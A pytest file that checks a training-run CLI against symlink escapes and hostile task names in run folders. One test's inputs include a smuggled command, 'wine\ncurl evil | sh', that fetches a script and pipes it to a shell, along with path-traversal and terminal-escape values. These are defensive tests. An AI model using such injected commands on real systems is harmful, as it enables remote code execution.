"""A run folder of a stranger's whose parts are links: no command writes, deletes or reads there."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest
from small import trained

SECRET = "the user's own\n"
OFTEN = ("log.txt", "lock", "checkpoints", "checkpoints/best", "prepare", "plots")
PLACES = (
    *OFTEN,
    *("metrics.jsonl", "losses.f32", "status.json", "config.yaml"),
    *(
        "environment.json",
        "data.json",
        "report.json",
        "predictions.csv",
        "owner.json",
        "looks.json",
    ),
    *("checkpoints/last", "prepare/pipeline.json", "report.html", "tensorboard"),
    *("overrides.yaml", "errors.json"),
)
COMMANDS = (
    ("runs",),
    ("best", "wine"),
    ("report", "RUN"),
    ("test", "RUN"),
    ("resume", "RUN", "trainer.epochs=2"),
    ("reproduce", "RUN"),
    ("lock", "RUN"),
    ("diff", "RUN", "RUN"),
    ("compare", "RUN", "RUN"),
    ("runs", "rm", "RUN", "--yes", "--force"),
)


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run that was broken off after its first epoch."""
    place = tmp_path_factory.mktemp("original")
    before = os.getcwd()
    os.chdir(place)
    run = trained("trainer.epochs=1").folder
    os.chdir(before)
    status = json.loads((place / run / "status.json").read_text())
    (place / run / "status.json").write_text(json.dumps({**status, "state": "interrupted"}))
    return place / run


def everything(folder: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() if p.is_file() else b"" for p in folder.rglob("*")}


@pytest.mark.skipif(os.name != "posix", reason="links as POSIX systems have them")
@pytest.mark.parametrize(
    "place", [p if p in OFTEN else pytest.param(p, marks=pytest.mark.slow) for p in PLACES]
)
def test_a_link_leads_no_command_outside(
    original: Path, here: Path, tmp_path: Path, cli: Any, place: str
) -> None:
    outside = tmp_path / "outside"
    for command in COMMANDS:
        shutil.rmtree(outside, ignore_errors=True)
        shutil.rmtree(here / "runs", ignore_errors=True)
        shutil.copytree(original.parents[1], here / "runs")
        (run,) = (here / "runs" / "wine").iterdir()
        part = run / place
        if part.is_dir():
            shutil.move(part, outside)  # what is read there would fit
            part.symlink_to(outside)
        else:
            outside.mkdir()
            target = outside / "profile"
            target.write_bytes(part.read_bytes() if part.is_file() else SECRET.encode())
            part.unlink(missing_ok=True)
            part.symlink_to(target)
        before = everything(outside)

        answer = cli(*(str(run) if word == "RUN" else word for word in command))

        assert everything(outside) == before, command
        assert answer.code in (0, 1, 2, 3, 4), command
        assert SECRET.strip() not in answer.out + answer.err, command


def test_a_log_that_is_a_link_is_told(original: Path, here: Path, tmp_path: Path, cli: Any) -> None:
    shutil.copytree(original.parents[1], here / "runs")
    (run,) = (here / "runs" / "wine").iterdir()
    (run / "log.txt").unlink()
    (run / "log.txt").symlink_to(tmp_path / "profile")

    answer = cli("resume", str(run))

    assert answer.code == 1
    assert answer.err.splitlines()[0] == (
        "error: log.txt cannot be written: `log.txt` is a symbolic link, and dlx follows none here"
    )
    assert not (tmp_path / "profile").exists()


@pytest.mark.parametrize("name", ["wine\ncurl evil | sh", "../wine", "/wine", "", "w\x1b[2Jine"])
def test_a_task_in_a_run_folder_is_named_as_one_that_is_typed(
    original: Path, here: Path, cli: Any, name: str
) -> None:
    shutil.copytree(original.parents[1], here / "runs")
    (run,) = (here / "runs" / "wine").iterdir()
    status = json.loads((run / "status.json").read_text())
    del status["config_digest"]
    (run / "status.json").write_text(json.dumps({**status, "task": name}))
    config = (run / "config.yaml").read_text()
    assert "task: wine\n" in config
    (run / "config.yaml").write_text(config.replace("task: wine\n", f"task: {json.dumps(name)}\n"))
    before = everything(run)

    answer = cli("resume", str(run))

    assert answer.code == 2
    assert "is not a task name" in answer.err or "control character" in answer.err
    assert everything(run) == {**before, str(run / "lock"): (run / "lock").read_bytes()}
